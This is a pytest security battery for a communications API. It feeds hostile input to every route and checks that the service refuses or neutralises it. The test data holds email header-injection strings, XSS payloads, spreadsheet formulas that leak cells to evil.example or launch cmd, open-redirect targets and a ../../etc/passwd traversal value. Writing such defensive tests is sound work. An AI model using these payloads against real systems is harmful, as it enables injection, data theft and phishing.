"""Battery (issue 5): hostile input gets a clear 4xx (or safely neutralized output), never a 500, and
nothing is stored.

CRLF in subjects and addresses (header injection), script in template variables, spreadsheet formulas
in CSV cells, redirect targets smuggled into tracking links, bodies over the size limits, malformed
JSON and wrong content types, and a sweep of every declared API route with bodies, query strings,
headers and path parameters that parsers choke on.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re

import pytest

from helpers import ROOT
from parley_local import families

CRM = "/api/v1/communications"
CANDIDATE_SEND = ("POST", "/communications/email/v1/send")
GOOD_CANDIDATE = {"subject": "Your interview", "emailContent": "Hi Ada, see you Tuesday.", "toEmail": "ada@example.com"}
GOOD_CRM = {"subject": "Your quote", "body": "<p>Hello Jan</p>", "recipients": ["jan@example.com"]}
GOOD_FORWARD = {"subject": "Strong candidate", "toEmail": "hm@acme.example", "candidateEmail": "ada@example.com"}
INJECTED = "Hello\r\nBcc: victim@evil.example"


@pytest.fixture
def template_id(call, tenant):
    html = '<p>Dear {{firstName}},</p><p title="{{amount}}">Your quote: {{amount}}</p>'
    payload = {"name": "Quote", "subject": "Quote {{quoteNumber}} for {{firstName}}", "bodyHtml": html, "type": "OFFERTE"}
    made = call("POST", f"{CRM}/templates", tenant[0].id, payload=payload)
    assert made.status == 201, made.body
    return made.body["id"]


def _nothing_stored_or_queued(before, snapshot, drain, send_queue):
    assert snapshot() == before, "the refused request stored something"
    assert drain(send_queue[1]) == [], "the refused request queued a send"


# ───────────── CRLF in subjects and addresses ─────────────
CRLF_CASES = {
    "candidate subject": (*CANDIDATE_SEND, {**GOOD_CANDIDATE, "subject": INJECTED}),
    "candidate subject LF": (*CANDIDATE_SEND, {**GOOD_CANDIDATE, "subject": "Hello\nBcc: victim@evil.example"}),
    "candidate toEmail": (*CANDIDATE_SEND, {**GOOD_CANDIDATE, "toEmail": "ada@example.com\r\nBcc: victim@evil.example"}),
    "forward subject": ("POST", "/communications/email/v1/forward-profile", {**GOOD_FORWARD, "subject": INJECTED}),
    "forward toEmail": (
        "POST",
        "/communications/email/v1/forward-profile",
        {**GOOD_FORWARD, "toEmail": "hm@acme.example\nBcc: v@evil.example"},
    ),
    "forward toName": ("POST", "/communications/email/v1/forward-profile", {**GOOD_FORWARD, "toName": "Bob\r\nBcc: v@evil.example"}),
    "crm subject": ("POST", f"{CRM}/send", {**GOOD_CRM, "subject": INJECTED}),
    "crm subject CR": ("POST", f"{CRM}/send", {**GOOD_CRM, "subject": "Hello\rBcc: victim@evil.example"}),
    "crm recipient": ("POST", f"{CRM}/send", {**GOOD_CRM, "recipients": ["jan@example.com\r\nBcc: victim@evil.example"]}),
    "crm cc": ("POST", f"{CRM}/send", {**GOOD_CRM, "cc": ["boss@example.com\nBcc: victim@evil.example"]}),
    "crm bcc": ("POST", f"{CRM}/send", {**GOOD_CRM, "bcc": ["archive@example.com\r\nX-Evil: 1"]}),
    "crm replyTo": ("POST", f"{CRM}/send", {**GOOD_CRM, "replyTo": "me@example.com\r\nBcc: victim@evil.example"}),
    "crm senderName": ("POST", f"{CRM}/send", {**GOOD_CRM, "senderName": "Sales\r\nBcc: victim@evil.example"}),
    "crm schedule subject": ("POST", f"{CRM}/schedule", {**GOOD_CRM, "subject": INJECTED, "scheduledAt": "2031-01-01T09:00:00Z"}),
    "crm template subject": ("POST", f"{CRM}/templates", {"name": "T", "subject": INJECTED, "bodyHtml": "<p>x</p>"}),
    "crm template name": ("POST", f"{CRM}/templates", {"name": "T\r\nX: y", "subject": "S", "bodyHtml": "<p>x</p>"}),
    "sms phone": ("POST", "/communications/sms/v1/send", {"message": "Hi there", "phoneNumber": "+15555550100\r\nX: y"}),
}


@pytest.mark.parametrize("case", sorted(CRLF_CASES))
def test_crlf_in_subjects_and_addresses_is_400_and_nothing_is_stored_or_sent(case, call, tenant, snapshot, drain, send_queue):
    method, path, payload = CRLF_CASES[case]
    before = snapshot()
    got = call(method, path, tenant[0].id, payload=payload)
    assert got.status == 400, (got.status, got.body)
    _nothing_stored_or_queued(before, snapshot, drain, send_queue)


def test_crlf_in_a_template_variable_that_reaches_the_subject_is_400(call, tenant, template_id, snapshot, drain, send_queue):
    before = snapshot()
    payload = {
        "recipients": ["jan@example.com"],
        "variables": {"firstName": "Jan", "amount": "1", "quoteNumber": "Q1\r\nBcc: v@evil.example"},
    }
    got = call("POST", f"{CRM}/send-template/{{templateId}}", tenant[0].id, params={"templateId": template_id}, payload=payload)
    assert got.status == 400 and "subject" in got.body["detail"], got.body
    _nothing_stored_or_queued(before, snapshot, drain, send_queue)


def test_crlf_in_the_acting_user_header_is_400(call, tenant, snapshot, drain, send_queue):
    before = snapshot()
    got = call("POST", f"{CRM}/send", tenant[0].id, payload=GOOD_CRM, headers={"X-User-ID": "user-7\r\nX-Evil: 1"})
    assert got.status == 400, got.body
    _nothing_stored_or_queued(before, snapshot, drain, send_queue)


# ───────────── script in template variables ─────────────
def test_script_in_template_variables_is_escaped_in_the_html_that_is_sent(call, handler, tenant, template_id, send_queue, drain, ses_wire):
    from parley.dal import messages
    from parley_local.workers import _sqs_record

    script, attr = "<script>alert(document.cookie)</script>", '"><img src=x onerror=alert(1)>'
    payload = {"recipients": ["jan@example.com"], "variables": {"firstName": script, "amount": attr, "quoteNumber": "Q1"}}
    got = call("POST", f"{CRM}/send-template/{{templateId}}", tenant[0].id, params={"templateId": template_id}, payload=payload)
    assert got.status == 200, got.body
    stored = messages.get(tenant[0].id, got.body["id"])
    for html in (got.body["body"], stored.body):
        assert "<script" not in html and "<img" not in html and "onerror=alert(1)>" not in html
        assert "&lt;script&gt;alert(document.cookie)&lt;/script&gt;" in html
        assert 'title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"' in html
    assert stored.subject == f"Quote Q1 for {script}"  # a subject is plain text, not HTML

    arn, url = send_queue
    assert handler("root.DispatcherFunction")({"Records": [_sqs_record(m, arn) for m in drain(url)]}) == {"batchItemFailures": []}
    sent = ses_wire.requests[stored.id]["Content"]["Simple"]["Body"]
    assert "<script" not in sent["Html"]["Data"] and "<img" not in sent["Html"]["Data"]
    assert "&lt;script&gt;" in sent["Html"]["Data"]


# ───────────── spreadsheet formulas in CSV cells ─────────────
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_export_neutralizes_spreadsheet_formulas_in_every_cell(call, tenant):
    payloads = [
        {**GOOD_CRM, "subject": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "senderName": "@SUM(1+1)*cmd|' /C calc'!A0",
         "relatedEntityType": "+cmd", "relatedEntityId": "-2+3+cmd", "recipientListId": "=1+1", "type": "-1"},
        {**GOOD_CRM, "subject": "\t=cmd|' /C calc'!A0", "body": "=IMPORTXML(CONCAT(\"https://evil.example/\",A2),\"//a\")",
         "variables": {"x": "=1+1"}},
        {**GOOD_CRM, "subject": "Plain subject, no formula"},
    ]  # fmt: skip
    for p in payloads:
        assert call("POST", f"{CRM}/send", tenant[0].id, payload=p).status == 200
    got = call("GET", f"{CRM}/csv-export", tenant[0].id, query={"page": "0", "size": "50"})
    assert got.status == 200, got.body
    rows = list(csv.reader(io.StringIO(got.body)))
    header, data = rows[0], rows[1:]
    assert len(data) == 3
    for row in data:
        for name, cell in zip(header, row, strict=True):
            assert not cell.startswith(FORMULA_STARTS), f"{name}: {cell!r} would run as a formula"
    cells = {c for row in data for c in row}
    for hostile in ('=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd", "-2+3+cmd", "=1+1",
                    "-1", "\t=cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("https://evil.example/",A2),"//a")'):  # fmt: skip
        assert "'" + hostile in cells, hostile
    assert "Plain subject, no formula" in cells  # ordinary text is left alone


# ───────────── redirect targets smuggled into tracking links ─────────────
def test_tracking_links_redirect_only_to_the_stored_url(call, handler, tenant, send_queue, drain):
    from parley.dal import messages
    from parley_local.workers import _sqs_record

    html = ('<p><a href="https://example.com/quote/42?next=/account">quote</a> <a href="javascript:alert(1)">js</a> '
            '<a href="//evil.example/x">proto-relative</a> <a href="https://example.com\\@evil.example/">backslash</a> '
            '<a href="data:text/html,<script>alert(1)</script>">data</a></p>')  # fmt: skip
    payload = {**GOOD_CRM, "body": html, "linkTrackingEnabled": True, "trackingEnabled": True}
    hostile_headers = {"Host": "evil.example", "X-Forwarded-Host": "evil.example", "Forwarded": "host=evil.example"}
    sent = call("POST", f"{CRM}/send", tenant[0].id, payload=payload, headers=hostile_headers)
    assert sent.status == 200, sent.body
    arn, url = send_queue
    assert handler("root.DispatcherFunction")({"Records": [_sqs_record(m, arn) for m in drain(url)]}) == {"batchItemFailures": []}
    msg = messages.get(tenant[0].id, sent.body["id"])
    assert [link.original_url for link in msg.links] == ["https://example.com/quote/42?next=/account"]  # only http(s) is rewritten
    rewritten = re.findall(r'href="([^"]+)"', msg.body)
    assert rewritten[0] == f"https://abc123defg.execute-api.us-east-1.amazonaws.com/v1{CRM}/link/{msg.track_token}/0"  # not evil.example
    assert rewritten[1:] == [
        "javascript:alert(1)",
        "//evil.example/x",
        "https://example.com\\@evil.example/",
        "data:text/html,<script>alert(1)</script>",
    ]

    link = f"{CRM}/link/{{id}}/{{linkIndex}}"
    smuggled_queries = [{"url": "https://evil.example"}, {"redirect": "https://evil.example", "next": "//evil.example"},
                        {"Location": "https://evil.example"}]  # fmt: skip
    for query in smuggled_queries:
        got = call("GET", link, None, params={"id": msg.track_token, "linkIndex": "0"}, query=query, headers=hostile_headers)
        assert (got.status, got.headers.get("location")) == (302, "https://example.com/quote/42?next=/account"), (
            got.status,
            got.body,
            got.headers,
        )
    for index in (
        "1",
        "2",
        "-1",
        "0/../1",
        "%2e%2e",
        "0?url=https://evil.example",
        "1e0",
        "0x0",
        " 0",
        "00" * 40,
        "https:%2f%2fevil.example",
    ):
        got = call("GET", link, None, params={"id": msg.track_token, "linkIndex": index})
        assert got.status in (302, 400, 404), (index, got.status)  # 400: not an int32 (decision S3)
        if got.status == 302:
            assert got.headers["location"] == "https://example.com/quote/42?next=/account", index
    for token in ("https://evil.example", "..%2f..%2fevil", msg.id, msg.track_token + "x"):
        got = call("GET", link, None, params={"id": token, "linkIndex": "0"})
        assert got.status == 404 and "location" not in got.headers, token


# ───────────── bodies over the size limits ─────────────
OVERSIZE = {
    "candidate emailContent": (*CANDIDATE_SEND, {**GOOD_CANDIDATE, "emailContent": "x" * 524_289}),
    "candidate subject": (*CANDIDATE_SEND, {**GOOD_CANDIDATE, "subject": "s" * 79}),
    "candidate 7 MB body": (*CANDIDATE_SEND, {**GOOD_CANDIDATE, "emailContent": "x" * 7_000_000}),
    "sms message": ("POST", "/communications/sms/v1/send", {"message": "m" * 79, "phoneNumber": "+15555550100"}),
    "crm body": ("POST", f"{CRM}/send", {**GOOD_CRM, "body": "b" * (256 * 1024 + 1)}),
    "crm 51 recipients": ("POST", f"{CRM}/send", {**GOOD_CRM, "recipients": [f"r{i}@example.com" for i in range(51)]}),
    "crm variables bytes": ("POST", f"{CRM}/send", {**GOOD_CRM, "variables": {"v": "x" * 40_000}}),
    "crm 201 variables": ("POST", f"{CRM}/send", {**GOOD_CRM, "variables": {f"v{i}": i for i in range(201)}}),
    "crm subject": ("POST", f"{CRM}/send", {**GOOD_CRM, "subject": "s" * 999}),
    "crm template body": ("POST", f"{CRM}/templates", {"name": "T", "subject": "S", "bodyHtml": "b" * (256 * 1024 + 1)}),
    "crm dynamic search": ("POST", f"{CRM}/dynamic-search", {"search": ["q" * 257]}),
}


@pytest.mark.parametrize("case", sorted(OVERSIZE))
def test_bodies_over_the_size_limits_are_4xx_and_store_nothing(case, call, tenant, snapshot, drain, send_queue):
    method, path, payload = OVERSIZE[case]
    before = snapshot()
    got = call(method, path, tenant[0].id, payload=payload)
    assert got.status in (400, 413), (got.status, str(got.body)[:300])
    _nothing_stored_or_queued(before, snapshot, drain, send_queue)


def test_more_than_100_ids_or_an_oversized_comment_is_400(call, tenant, snapshot):
    before = snapshot()
    ids = ",".join(f"id-{i}" for i in range(101))
    for method, path in (("GET", f"{CRM}/find"), ("GET", f"{CRM}/find-list"), ("DELETE", f"{CRM}/delete-list")):
        assert call(method, path, tenant[0].id, query={"ids": ids}).status == 400
    sent = call("POST", f"{CRM}/send", tenant[0].id, payload=GOOD_CRM)
    before = snapshot()
    got = call("POST", f"{CRM}/{{id}}/comment", tenant[0].id, params={"id": sent.body["id"]}, payload="c" * 4001,
               headers={"Content-Type": "text/plain"})  # fmt: skip
    assert got.status == 400, got.body
    assert snapshot() == before


# ───────────── numbers in CRM variables ─────────────
def test_numbers_in_crm_variables_are_stored_exactly_or_refused_never_a_500(call, tenant, template_id, snapshot, drain, send_queue):
    """Found by this battery: a fractional number in ``variables`` (a price such as 1200.5) was a 500
    (boto3 refuses floats), and so was a number DynamoDB cannot hold (1e300, 40 digits)."""
    from parley.dal import messages

    t = tenant[0]
    variables = {"amount": 1200.5, "rate": 0.1, "items": [1.25, {"tax": 21.0}], "count": 3, "big": 10**37, "tiny": 1e-100}
    sent = call("POST", f"{CRM}/send", t.id, payload={**GOOD_CRM, "variables": variables})
    assert sent.status == 200, sent.body
    assert sent.body["variables"] == variables
    assert messages.get(t.id, sent.body["id"]).variables == variables  # read back from the table: the same numbers
    payload = {"recipients": ["jan@example.com"], "variables": {"firstName": "Jan", "amount": 1200.5, "quoteNumber": 7}}
    got = call("POST", f"{CRM}/send-template/{{templateId}}", t.id, params={"templateId": template_id}, payload=payload)
    assert got.status == 200 and "Your quote: 1200.5" in got.body["body"], got.body
    drain(send_queue[1])

    before = snapshot()
    for bad in ("1e300", "-1e200", "1e-300", "1" + "0" * 40, "1" + "1" * 5000, "NaN", "Infinity"):
        for path, extra in ((f"{CRM}/send", {}), (f"{CRM}/schedule", {"scheduledAt": "2031-01-01T09:00:00Z"})):
            raw = json.dumps({**GOOD_CRM, **extra, "variables": {"x": "PLACEHOLDER"}}).replace('"PLACEHOLDER"', bad)
            got = call("POST", path, t.id, payload=raw)
            assert got.status == 400, (path, bad, got.status, got.body)
    assert snapshot() == before
    assert drain(send_queue[1]) == []


# ───────────── malformed JSON, wrong content types: every JSON route ─────────────
def _json_routes(stack):
    docs = {f: json.loads((ROOT / "docs" / "openapi" / f"{f}.json").read_text()) for f in families.names()}
    family = families.applications()
    out = []
    for api in stack.apis:
        for r in api.routes:
            op = docs[family[r.function.key.split(".")[0]]]["paths"][r.path][r.method.lower()]
            if "application/json" in ((op.get("requestBody") or {}).get("content") or {}):
                out.append((r.method, r.path))
    return sorted(out)


MALFORMED = {
    "not JSON": ("{not json", None, 400),
    "truncated": ('{"subject": "Hi", "recipients": ["a@example.com"', None, 400),
    "array": ('[{"subject": "Hi"}]', None, 400),
    "string": ('"just a string"', None, 400),
    "nested 100k deep": ("[" * 100_000 + "]" * 100_000, None, 400),
    "5000-digit number": ('{"subject": ' + "9" * 5000 + "}", None, 400),
    "not UTF-8": (base64.b64encode(b'{"subject": "\xff\xfe"}').decode(), "base64", 400),
    "text/plain": (json.dumps(GOOD_CRM), "text/plain", 415),
    "form": ("subject=Hi&body=x", "application/x-www-form-urlencoded", 415),
    "xml": ("<send><subject>Hi</subject></send>", "application/xml", 415),
    "multipart without boundary": ("--x\r\n\r\n", "multipart/form-data", 415),
}


def test_malformed_json_and_wrong_content_types_get_a_clear_4xx_on_every_json_route(aws, call, tenant, snapshot, drain, send_queue):
    routes = _json_routes(aws)
    assert len(routes) >= 10  # every family's JSON routes, from the templates
    problems = []
    for method, path in routes:
        params = {p: "x-id" for p in re.findall(r"{(\w+)}", path)}
        for name, (raw, ctype, expected) in MALFORMED.items():
            before = snapshot()
            headers = {"Content-Type": ctype} if ctype and ctype != "base64" else {}
            got = call(method, path, tenant[0].id, params=params, payload=raw, headers=headers, base64_body=ctype == "base64")
            ok_status = got.status == expected or (expected == 415 and got.status == 400)
            message = (got.body or {}).get("detail") or (got.body or {}).get("message") if isinstance(got.body, dict) else None
            if isinstance(got.body, dict) and got.body.get("errors"):  # the courier API: JSON:API error objects
                message = got.body["errors"][0].get("detail")
            if not (ok_status and message and snapshot() == before):
                problems.append((method, path, name, got.status, str(got.body)[:120]))
    assert drain(send_queue[1]) == []
    assert problems == [], "\n".join(map(str, problems[:10]))


# ───────────── no route answers 5xx: a sweep of every declared API route ─────────────
HOSTILE_BODIES = {
    "nested arrays": "[" * 100_000 + "]" * 100_000,
    "nested objects": '{"a":' * 50_000 + "1" + "}" * 50_000,
    "5000-digit number": '{"subject": 1' + "0" * 5000 + "}",
    "lone surrogates": '{"subject": "\\ud800", "body": "\\udc00x", "recipients": ["\\ud800@example.com"], "name": "\\ud800"}',
    "huge numbers": '{"subject": 1e999, "variables": {"a": -1e999}, "page": 1e999, "filters": {"openCount": 1e999}}',
    "6 MB": json.dumps({"subject": "s", "body": "b" * 6_000_000, "emailContent": "c" * 6_000_000}),
}
HOSTILE_QUERY = ["x\r\n\u0000" * 1000, "9" * 5000, "-1", "1e400", "NaN", "\ud800", "%00", "../../etc/passwd"]
HOSTILE_HEADERS = {"Idempotency-Key": "\ud800" + "k" * 300, "X-User-ID": "u\u0000\r\n", "X-Tenant-ID": "\r\n"}


def test_no_declared_route_answers_5xx_to_hostile_requests(aws, call, tenant, snapshot, drain, send_queue):
    """Every route of every family (from the templates), with bodies, query values, headers and path
    parameters that break parsers: never a 5xx. Hostile bodies, headers and path parameters store
    nothing; hostile query values ride on the sample's (valid) body, so a send may go through."""
    t = tenant[0]
    routes = sorted((r.method, r.path) for api in aws.apis for r in api.routes)
    assert len(routes) >= 40
    problems = []
    queries = [
        dict(query={"q": v, "ids": v, "page": v, "size": v, "limit": v, "offset": v, "fromTime": v, "email": v}) for v in HOSTILE_QUERY
    ]
    for method, path in routes:
        names = re.findall(r"{(\w+)}", path)
        refused = [dict(payload=raw) for raw in HOSTILE_BODIES.values()]
        refused += [dict(payload="{}", headers=HOSTILE_HEADERS)]
        refused += [dict(params={p: v for p in names}) for v in ("\ud800\r\n" + "x" * 3000, "..%2F..%2F", "%00")] if names else []
        before = snapshot()
        for req in refused:
            got = call(method, path, t.id, **{"params": {p: "x-id" for p in names}, **req})
            if got.status >= 500:
                problems.append((method, path, str(req)[:80], got.status, str(got.body)[:120]))
        if snapshot() != before:
            problems.append((method, path, "hostile bodies, headers or path parameters", "stored something"))
    for method, path in routes:  # last: these may store (a send with a valid sample body and odd query values)
        names = re.findall(r"{(\w+)}", path)
        for req in queries:
            got = call(method, path, t.id, params={p: "x-id" for p in names}, **req)
            if got.status >= 500:
                problems.append((method, path, str(req)[:80], got.status, str(got.body)[:120]))
    assert problems == [], "\n".join(map(str, problems[:10]))
    drain(send_queue[1])
